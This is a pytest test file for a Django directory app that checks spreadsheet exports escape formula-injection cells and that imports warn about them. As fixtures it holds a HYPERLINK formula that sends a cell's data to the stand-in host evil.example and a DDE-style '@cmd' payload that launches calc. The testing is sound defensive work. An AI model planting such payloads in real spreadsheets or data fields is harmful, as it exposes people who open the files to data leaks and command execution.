"""Formula injection (issue 18): an imported name such as ``=HYPERLINK(…)`` never leaves the
application as a live formula — workspace exports (CSV, XLSX), the public HSDS CSV ZIP, the
participants' list, the budget and gap lists — and imports warn about such cells."""

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from familiennetz.directory.models import Location, Offer
from familiennetz.governance.tests import factories as g
from familiennetz.interop.hsds.export import export_tables, files_for
from familiennetz.interop.hsds.importer import hsds_import
from familiennetz.interop.hsds.sources import read_files
from familiennetz.interop.report import Level
from familiennetz.interop.sheets import sheet_commit, sheet_export, sheet_parse

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Klick")'
PLUS = "+SUM(1+1)"
AT = "@cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def english_messages():
    with translation.override("en"):
        yield


@pytest.fixture
def evil_offer(alliance, offer_factory, organisation_factory, location_factory):
    organisation = organisation_factory(alliance=alliance, name=PLUS)
    place = location_factory(
        alliance=alliance, organisation=organisation, latitude=-33.5, longitude=-70.25
    )
    return offer_factory(
        alliance=alliance,
        organisation=organisation,
        name=EVIL,
        summary=AT,
        phone="+49 3727 1234",
        locations=[place],
        status="published",
    )


def csv_rows(data: bytes, delimiter=";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_workspace_csv_export_escapes_formulas_but_keeps_numbers(
    client, alliance, coordinator, evil_offer
):
    client.force_login(coordinator.user)
    url = reverse(
        "interop:manage-export-download",
        kwargs={"alliance_slug": alliance.slug, "filename": "angebote.csv"},
    )
    response = client.get(url)
    assert response.status_code == 200
    rows = csv_rows(
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells and "'" + PLUS in cells and "'" + AT in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert "-33,5" in cells  # a negative coordinate is a number, not a formula


def test_workspace_xlsx_export_has_no_live_formula(client, alliance, coordinator, evil_offer):
    client.force_login(coordinator.user)
    url = reverse(
        "interop:manage-export-download",
        kwargs={"alliance_slug": alliance.slug, "filename": "angebote.xlsx"},
    )
    response = client.get(url)
    data = b"".join(response.streaming_content) if response.streaming else response.content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets
        )
    sheet = load_workbook(io.BytesIO(data))["Angebote"]
    names = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    assert names[EVIL].data_type == "s" and names[EVIL].quotePrefix


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_escaped_export_imports_again_unchanged_with_a_warning(alliance, evil_offer, fmt):
    Location.objects.update(latitude=50.97, longitude=13.12)  # inside the alliance's area
    data = sheet_export(alliance=alliance, fmt=fmt)
    result = sheet_parse(alliance=alliance, data=data, filename=f"export.{fmt}")
    assert result.report.errors == []
    warned = {(issue.row, issue.field) for issue in result.report.warnings}
    assert (2, "Angebot") in warned and (2, "Träger") in warned
    assert "formula" in result.report.warnings[0].message
    report = sheet_commit(result)
    assert report.counts["offer"] == {"unchanged": 1}
    assert Offer.objects.get(pk=evil_offer.pk).name == EVIL


def test_public_hsds_csv_zip_escapes_texts_and_round_trips(
    client, alliance, evil_offer, other_alliance
):
    response = client.get(reverse("interop:hsds-csv", kwargs={"alliance_slug": alliance.slug}))
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    service = csv_rows(files["services.csv"], delimiter=",")
    name_column = service[0].index("name")
    assert [row[name_column] for row in service[1:]] == ["'" + EVIL]
    everything = [
        cell
        for name, body in files.items()
        if name.endswith(".csv")
        for row in csv_rows(body, ",")
        for cell in row
    ]
    risky = [cell for cell in everything if cell.startswith(("=", "+", "@", "-", "\t", "\r"))]
    assert risky and all(re.fullmatch(r"-\d+(\.\d+)?", cell) for cell in risky)  # numbers
    assert "'+49 3727 1234" in everything and "-33.5" in everything

    # Our own import reverses the escape: nothing is lost, the report warns.
    tables = read_files({n: b for n, b in files.items() if n.endswith(".csv")})
    report = hsds_import(alliance=other_alliance, tables=tables)
    assert report.errors == []
    assert any("formula" in issue.message for issue in report.warnings)
    copy = Offer.objects.get(alliance=other_alliance)
    assert copy.name == EVIL and copy.summary == AT and copy.phone == "+49 3727 1234"


def test_hsds_csv_in_memory_export_is_escaped_too(alliance, evil_offer):
    files = files_for(export_tables(alliance=alliance), "csv")
    assert b"'=HYPERLINK" in files["services.csv"]


def test_imported_formula_cells_are_warned_about_per_line_and_column(alliance):
    text = "Angebot;Träger;Ort\r\nBabytreff;=1+1;Hainichen\r\n@x;Verein;-5\r\n"
    result = sheet_parse(alliance=alliance, data=text.encode(), filename="liste.csv")
    warned = {(i.row, i.field) for i in result.report.warnings if "formula" in i.message}
    assert warned == {(2, "Träger"), (3, "Angebot")}  # "-5" is a number, not a formula
    assert all(i.level == Level.WARNING for i in result.report.issues if "formula" in i.message)


def test_budget_spreadsheet_writes_names_as_text(client, alliance, coordinator):
    pot = g.PotFactory(alliance=alliance, name=EVIL, funder=PLUS)
    g.contribution(pot, "500", source=AT)
    client.force_login(coordinator.user)
    response = client.get(
        reverse(
            "governance:manage-pot-export", kwargs={"alliance_slug": alliance.slug, "pk": pot.pk}
        )
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    for text in (EVIL, PLUS):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    assert all(cell.data_type != "f" for cell in cells.values())
